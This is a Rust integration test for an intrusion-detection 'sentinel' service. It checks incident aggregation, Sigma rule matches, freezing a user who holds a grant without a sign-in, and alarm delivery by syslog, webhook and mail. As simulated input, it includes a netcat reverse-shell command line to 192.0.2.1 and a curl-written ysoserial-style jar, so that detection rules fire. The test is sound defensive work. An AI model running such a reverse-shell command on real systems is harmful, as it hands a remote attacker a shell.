//! The real sentinel in its real walls: a normal load, incidents told, and not one call off its
//! charter. This program is its own compartment: birth re-executes it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use compartment::House;
use evidence::{Author, Body, Word};
use std::process::ExitCode;
use std::time::Duration;
use terms::{GrantId, InstanceId, Kind, TenantId, UserId};
use wire::control::{Order, Report, Start};
use wire::fetch::{FromSentinel as Alarm, ToSentinel as Carried};
use wire::identity::{FromSentinel, ToSentinel, Whose};
use wire::ledger::{FromLedger, ToLedger};
use wire::sentinel::{Feed, FromAdmin, Seen, Sight, Source, ToAdmin, Vigilance};
use wire::{Channel, Label};

const LIMIT: Duration = Duration::from_secs(20);
const ACCESS: InstanceId = InstanceId([9; 6]);
const PERSON: (TenantId, UserId) = (TenantId([1; 8]), UserId([2; 8]));

fn main() -> ExitCode {
    walled::main(
        || sentinel::run(House::begin().unwrap()),
        || {
            let folder = walled::folder(Kind::Sentinel);
            live(folder.to_str().unwrap());
            std::fs::remove_dir_all(&folder).unwrap();
        },
    )
}

fn join(control: &Channel, kind: Kind) -> Channel {
    let instance = InstanceId([kind.number() as u8; 6]);
    walled::join(control, Label { instance, kind, person: None })
}

fn feed(control: &Channel, feed: Feed) {
    control.send(0, &Order::Feed(feed), &[]).unwrap();
}

/// The next incident that the warden would hear; other words are passed over.
fn next_incident(control: &Channel) -> wire::sentinel::Incident {
    loop {
        if let Report::Incident(incident) = control.receive(Some(LIMIT)).unwrap().read().unwrap() {
            return incident;
        }
    }
}

fn live(folder: &str) {
    let start = Start {
        instance: InstanceId([5; 6]),
        folder: Some(folder.to_owned()),
        vigilance: Vigilance {
            has_webhook: true,
            has_mail: true,
            gather_ms: 100,
            ..Vigilance::default()
        },
        alarm_secret: b"sixteen octets..".to_vec(),
        ..Start::default()
    };
    let sentinel = walled::born(Kind::Sentinel, start);
    assert!(matches!(sentinel.ready, Report::Ready { author: Some(_), .. }));
    load(&sentinel.control);
    sentinel.stop();
    assert!(std::fs::metadata(format!("{folder}/hours")).unwrap().len() > 0);
}

fn load(control: &Channel) {
    // A source that is a socket: the host's log.
    let (log, theirs) = std::os::unix::net::UnixDatagram::pair().unwrap();
    log.set_read_timeout(Some(LIMIT)).unwrap();
    let syslog = Order::Feed(Feed::Source { source: Source::Syslog, missing: None });
    control.send(0, &syslog, &[theirs.into()]).unwrap();
    let missing = Some("not here".to_owned());
    feed(control, Feed::Source { source: Source::Audit, missing });
    let identity = join(control, Kind::Identity);
    let asked = identity.receive(Some(LIMIT)).unwrap();
    assert!(matches!(asked.read().unwrap(), FromSentinel::Decoys));
    identity.send(asked.call, &ToSentinel::Decoys(vec![PERSON]), &[]).unwrap();

    // A flood of ten thousand equal refusals is one incident, and one line.
    for _ in 0..10_000 {
        feed(
            control,
            Feed::Raw {
                at_ms: compartment::now_ms(),
                instance: ACCESS,
                kind: Kind::Access,
                pid: 7,
                call: "execve".to_owned(),
                what: "refused".to_owned(),
            },
        );
    }
    let incident = next_incident(control);
    assert_eq!((incident.cause.as_str(), incident.count), ("off-charter", 1));
    let mut line = [0u8; 1_024];
    let count = log.recv(&mut line).unwrap();
    let line = String::from_utf8_lossy(&line[..count]).into_owned();
    assert!(line.starts_with("<81>1 ") && line.contains("off-charter"), "{line}");
    println!("ok  a flood is one incident, told in {} ms", incident.after_ms);

    // A program in our tree, and what its words look like.
    feed(
        control,
        Feed::Seen(Seen {
            at_ms: compartment::now_ms(),
            pid: 4_242,
            is_ours: true,
            image: "/usr/bin/nc".to_owned(),
            command_line: "nc -e /bin/sh 192.0.2.1 9".to_owned(),
            ..Seen::default()
        }),
    );
    assert_eq!(next_incident(control).cause, "program");
    let rule = next_incident(control);
    assert_eq!(rule.rule.as_deref(), Some("7f734ed0-4f47-46c0-837f-6ee62505abd9"));
    let said = || {
        let mut line = [0; 2_000];
        let count = log.recv(&mut line).unwrap();
        String::from_utf8_lossy(&line[..count]).into_owned()
    };
    assert!(said().contains(" program "), "the log has the program first");
    let told = said();
    assert!(
        told.contains("(Sigma: Potential Netcat Reverse Shell Execution, by @d4ns4n_"),
        "{told}"
    );

    // A file that somebody left: a rule's match, and no program that was started.
    feed(
        control,
        Feed::Seen(Seen {
            at_ms: compartment::now_ms(),
            pid: 4_243,
            is_ours: true,
            what: Sight::Written,
            image: "/usr/bin/curl".to_owned(),
            file: "/tmp/ysocereal.jar".to_owned(),
            ..Seen::default()
        }),
    );
    let rule = next_incident(control);
    assert_eq!(rule.rule.as_deref(), Some("2aa1440c-9ae9-4d92-84a7-a9e5f5e31695"));
    assert!(said().contains("by Florian Roth (Nextron Systems)"));
    println!("ok  matches are told with the rules' authors");

    // The stream: a grant without a sign-in freezes the person; our own entries come in.
    let ledger = join(control, Kind::Ledger);
    let author = |kind, number: u8| Author::new(kind, InstanceId([number; 6]), &[number; 32]);
    let (mut warden, mut identities) = (author(Kind::Warden, 1), author(Kind::Identity, 2));
    let version = Word::new("1");
    let (instance, kind) = (ACCESS, Kind::Access);
    let born = Body::ProcessStart {
        instance,
        kind,
        pid: 7,
        version,
        zygote: None,
        key: None,
        serves: None,
    };
    let (tenant, user) = (PERSON.0, UserId([3; 8]));
    let granted =
        Body::Grant { grant: GrantId([4; 16]), instance, tenant, user, until_ms: u64::MAX };
    let news = vec![warden.sign(1, born).unwrap(), identities.sign(2, granted).unwrap()];
    let mut sent = false;
    let mut appended = 0;
    while !sent || appended == 0 {
        let frame = ledger.receive(Some(LIMIT)).unwrap();
        match frame.read().unwrap() {
            ToLedger::Follow { from_index: u64::MAX } => {
                let answer = FromLedger::Followed { first_index: 0, entries: Vec::new() };
                ledger.send(frame.call, &answer, &[]).unwrap();
            }
            ToLedger::Follow { from_index: 0 } => {
                let answer = FromLedger::Followed { first_index: 0, entries: news.clone() };
                ledger.send(frame.call, &answer, &[]).unwrap();
                sent = true;
            }
            ToLedger::Ended { from_index, to_index } => {
                assert_eq!((from_index, to_index), (0, 0));
                let answer = FromLedger::Deeds { entries: Vec::new(), next: None };
                ledger.send(frame.call, &answer, &[]).unwrap();
            }
            ToLedger::Append { entries, .. } => {
                let first = evidence::Frame::parse(&entries[0]).unwrap().entry;
                assert!(matches!(first.body, Body::Incident { .. }));
                appended += entries.len();
                ledger.send(frame.call, &FromLedger::Taken { first_index: 2 }, &[]).unwrap();
            }
            _ => {}
        }
    }
    assert_eq!(next_incident(control).cause, "no-sign-in");
    loop {
        let frame = identity.receive(Some(LIMIT)).unwrap();
        if let FromSentinel::Freeze { whose, .. } = frame.read().unwrap() {
            assert_eq!(whose, Whose::Person(tenant, user));
            break;
        }
    }
    println!("ok  a grant without a sign-in freezes the person");

    control.send(0, &Order::Pulse, &[]).unwrap();
    while !matches!(control.receive(Some(LIMIT)).unwrap().read().unwrap(), Report::Alive) {}
    let mut admin = join(control, Kind::Admin);
    let (answer, _) = admin.ask(&FromAdmin::Status, &[], LIMIT).unwrap();
    let ToAdmin::Status(status) = answer else { panic!("no status") };
    assert!(status.events >= 10_003 && status.decoys == 1, "{status:?}");
    let audit = status.sources.iter().find(|(source, _)| *source == Source::Audit).unwrap();
    assert_eq!(audit.1.as_deref(), Some("not here"));
    alarms_leave(control, &ledger, &mut admin);
}

/// What has been told until now waits for `fetch`; a test goes over every route.
fn alarms_leave(control: &Channel, ledger: &Channel, admin: &mut Channel) {
    let fetch = join(control, Kind::Fetch);
    for _ in 0..2 {
        let frame = fetch.receive(Some(LIMIT)).unwrap();
        match frame.read().unwrap() {
            Alarm::Webhook { body, signature, .. } => {
                let body = String::from_utf8(body).unwrap();
                assert!(body.contains("no-sign-in") && body.contains("off-charter"), "{body}");
                assert_ne!(signature, [0; 32]);
            }
            Alarm::Mail { subject, text, .. } => {
                assert!(subject.starts_with("[Sekisho ") && text.contains("no-sign-in"), "{text}");
            }
        }
        let answer = Carried { is_taken: true, said: "250 ok".to_owned() };
        fetch.send(frame.call, &answer, &[]).unwrap();
    }
    let call = admin.next_call();
    admin.send(call, &FromAdmin::Test, &[]).unwrap();
    let pulse = Duration::from_millis(10);
    while !admin.wait(pulse).unwrap() {
        if ledger.wait(pulse).unwrap() {
            let frame = ledger.receive(Some(LIMIT)).unwrap();
            if let Ok(ToLedger::Append { .. }) = frame.read() {
                ledger.send(frame.call, &FromLedger::Taken { first_index: 9 }, &[]).unwrap();
            }
        }
        if fetch.wait(pulse).unwrap() {
            let frame = fetch.receive(Some(LIMIT)).unwrap();
            let is_taken = matches!(frame.read(), Ok(Alarm::Mail { .. }));
            let answer = Carried { is_taken, said: "HTTP 500".to_owned() };
            fetch.send(frame.call, &answer, &[]).unwrap();
        }
    }
    let answer = admin.receive(Some(LIMIT)).unwrap();
    let ToAdmin::Tested(tried) = answer.read().unwrap() else { panic!("no test") };
    let found: Vec<_> = tried.iter().map(|one| (one.route.as_str(), one.is_taken)).collect();
    let expected =
        [("console", true), ("ledger", true), ("syslog", true), ("webhook", false), ("mail", true)];
    assert_eq!(found, expected);
    assert_eq!(next_incident(control).cause, "test");
    println!("ok  alarms leave, and a test tells what each route answered");
}
